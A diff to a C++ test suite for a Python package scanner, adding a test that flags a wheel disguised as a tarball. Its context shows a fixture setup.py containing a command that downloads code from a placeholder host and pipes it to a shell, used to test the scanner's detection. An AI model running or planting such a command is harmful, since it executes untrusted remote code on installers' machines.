@@ -54,6 +54,14 @@ TEST_F(ScannerTest, CleanWheel) {
   EXPECT_FALSE(r.error.has_value());
 }
 
+TEST_F(ScannerTest, WheelPosingAsATarball) {
+  std::string whl = testing::MakeZip({File("ok/__init__.py", "")});
+  ScanResult r = scanner_.ScanBytes("ok-1.0.tar.gz", "ok-1.0.tar.gz", whl);
+  EXPECT_TRUE(Has(r, "archive-format-mismatch"));
+  ScanResult same = scanner_.ScanBytes("ok-1.0.whl", "ok-1.0.whl", whl);
+  EXPECT_FALSE(Has(same, "archive-format-mismatch"));
+}
+
 TEST_F(ScannerTest, SetupInTestsFolderCountsLess) {
   std::string tgz = testing::MakeTar({
       File("p-1/tests/fixtures/setup.py", "import os\nos.system('curl http://x | sh')\n")});
